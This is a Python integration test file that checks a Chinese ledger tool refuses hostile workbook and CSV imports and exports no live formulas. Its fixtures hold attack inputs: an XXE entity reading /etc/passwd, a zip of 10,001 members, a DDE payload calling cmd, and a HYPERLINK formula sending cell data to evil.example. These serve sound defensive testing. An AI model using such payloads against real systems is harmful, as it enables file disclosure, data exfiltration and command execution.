"""The security review's workbook reproductions, through the installed ``duban`` command on a real database
(SQLite file and PostgreSQL): every hostile file is refused with one clear Chinese line, an exit code that is
neither 0 nor 70 (internal error), no traceback, and not one row changed; and exports never carry a formula."""

from __future__ import annotations

import csv
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from models.db import create_schema, make_engine
from reports.cells import xlsx_untext
from tests import backends
from tests.acceptance.conftest import Duban
from tests.reports.conftest import seed_directory
from tests.security import hostile

pytestmark = pytest.mark.integration

AT = "2024-01-20T09:00"


@pytest.fixture(scope="module", params=backends.BACKENDS)
def template(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp("county")
    duban = Duban(backends.new_database_url(request.param, folder), folder)
    duban("init", "--sample", at=AT)
    duban("sweep", at=AT)
    return duban


@pytest.fixture
def county(template, tmp_path):
    return template.copy_to(tmp_path)


@pytest.fixture
def fresh(db_url, tmp_path):
    """A database with the county's units, people and projects, and no problems."""
    (tmp_path / "fresh").mkdir()
    d = Duban(db_url, tmp_path / "fresh")
    engine = make_engine(d.db)
    create_schema(engine)
    seed_directory(engine)
    engine.dispose()
    return d


def _csv(path, text: str, encoding: str = "utf-8"):
    path.write_bytes(text.encode(encoding) if isinstance(text, str) else text)
    return path


CSV_HEADER = "项目名称,问题名称,问题类型,状态,责任单位,责任人,交办日期,办结时限\n"
HOSTILE = {
    **hostile.REPRODUCTIONS,
    "xxe": (
        lambda p: hostile.workbook(
            p,
            '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            f'<worksheet xmlns="{hostile.MAIN}"><sheetData/></worksheet>',
        ),
        "含有 DTD 声明",
    ),
    "column_beyond_limit": (
        lambda p: hostile.workbook(p, hostile.with_data_cell('<c r="BZ2"><v>1</v></c>')),
        "超出导入上限 64 列",
    ),
    "not_a_zip": (lambda p: _csv(p, b"PK\x03\x04\x00garbage"), "不是有效的 .xlsx 文件"),
    "zip_of_many_members": (
        lambda p: hostile.write_zip(p, {f"m{i}.xml": b"" for i in range(10_001)}),
        "超过上限 10000 个",
    ),
    "csv_nul": (lambda p: _csv(p.with_suffix(".csv"), CSV_HEADER + "甲\x00,乙,土地\n"), "含有 NUL 字符"),
    "csv_not_text": (lambda p: _csv(p.with_suffix(".csv"), CSV_HEADER.encode("utf-16")), "既不是 UTF-8 也不是 GBK"),
    "csv_extreme_dates": (
        lambda p: _csv(
            p.with_suffix(".csv"),
            CSV_HEADER
            + f"{hostile.PROJECT},远古,土地,交办,自然资源局,孙丽,0001-01-01,0001-01-02\n"
            + f"{hostile.PROJECT},未来,土地,交办,自然资源局,孙丽,2024-01-01,9999-12-31\n",
        ),
        "超出允许范围：年份应在 2000–2099 年之间",
    ),
    "csv_huge_code": (
        lambda p: _csv(
            p.with_suffix(".csv"), "问题编号," + CSV_HEADER + f"WT-2024-{'9' * 40},{hostile.PROJECT},乙,土地\n"
        ),
        "序号最多 9 位",
    ),
}


# The reader refuses these files before the database is touched, so one database is enough for the 22
# of them; a valid import and the exports run on both (below).
@pytest.mark.parametrize("template", ["sqlite"], indirect=True)
@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_file_is_refused_and_nothing_changes(county, name):
    build, fragment = HOSTILE[name]
    path = build(county.cwd / f"{name}.xlsx")
    before = county.dump()
    result = county("import-ledger", path.name, ok=False, at=AT)  # one "错误：" line, no traceback
    assert result.returncode not in (0, 70), result.stderr
    assert fragment in result.stderr + result.stdout, (result.stdout, result.stderr)
    assert "内部错误" not in result.stderr
    assert county.dump() == before  # rows, versions, events (the audit log), notices: all unchanged


def test_a_valid_file_beside_them_still_imports(county):
    path = hostile.valid(county.cwd / "ok.xlsx")
    report = county.json("import-ledger", path.name, at=AT)
    assert report["created"] == 1 and report["ok"]


# -- exports carry no formula, and come back byte for byte ------------------------------------------------

NASTY_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1 加号开头",
    "-2+3 减号开头",
    "@SUM(A1:A9)",
    "'=1+1 单引号开头",
    "#N/A",
    "_x000D_ 看似转义",
    "\t=1+1 制表符开头",  # the text gate trims the tab: stored (and exported) as "=1+1 …", still text
    "全角空格　与表情 👨\u200d👩\u200d👧 的标题",
]
# Multi-line text keeps tabs and newlines (CRLF is stored as LF); a CR inside a title is refused by the gate.
NASTY_DESCRIPTIONS = ["=2+2\n第二行", "@cmd", "-1", "'", "第一行\r\n第二行\t制表"]


def _log_nasty(county) -> list[str]:
    codes = []
    for i, title in enumerate(NASTY_TITLES):
        description = NASTY_DESCRIPTIONS[i % len(NASTY_DESCRIPTIONS)]
        out = county(
            "log",
            f"--project={hostile.PROJECT}",
            "--category=land",
            f"--title={title}",
            f"--description={description}",
            at=AT,
        ).stdout
        codes.append(out.strip())
    return codes


def _texts(db_url: str) -> dict[str, tuple[str, str]]:
    engine = sa.create_engine(db_url)
    try:
        with engine.connect() as conn:
            rows = conn.execute(sa.text("SELECT code, title, description FROM problem ORDER BY code"))
            return {code: (title, description) for code, title, description in rows}
    finally:
        engine.dispose()


def test_exports_carry_no_formula_and_reimport_byte_for_byte(county, fresh, tmp_path):
    codes = _log_nasty(county)
    source = _texts(county.db)
    county("export-ledger", "ledger.xlsx", at=AT)
    county("export-ledger", "ledger.csv", at=AT)

    with zipfile.ZipFile(county.cwd / "ledger.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and ' t="e"' not in xml
    ws = load_workbook(county.cwd / "ledger.xlsx").active
    cells = {row[1].value: row for row in ws.iter_rows(min_row=3)}
    for code in codes:
        title_cell = cells[code][3]
        # openpyxl does not decode OOXML's _xHHHH_ escapes; Excel does, and so does duban's reader.
        assert title_cell.data_type == "s" and xlsx_untext(title_cell.value) == source[code][0]

    with (county.cwd / "ledger.csv").open(encoding="utf-8-sig", newline="") as f:
        records = {r[1]: r for r in csv.reader(f)}
    for code in codes:
        title, description = source[code]
        for cell, text in ((records[code][3], title), (records[code][7], description)):
            if text.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
                assert cell == "'" + text
            else:
                assert cell == text

    for name in ("ledger.xlsx", "ledger.csv"):
        folder = tmp_path / name.replace(".", "_")
        folder.mkdir()
        target = fresh.copy_to(folder)
        report = target.json("import-ledger", str(county.cwd / name), at=AT)
        assert report["ok"], report["errors"]
        imported = _texts(target.db)
        assert {c: imported[c] for c in codes} == {c: source[c] for c in codes}
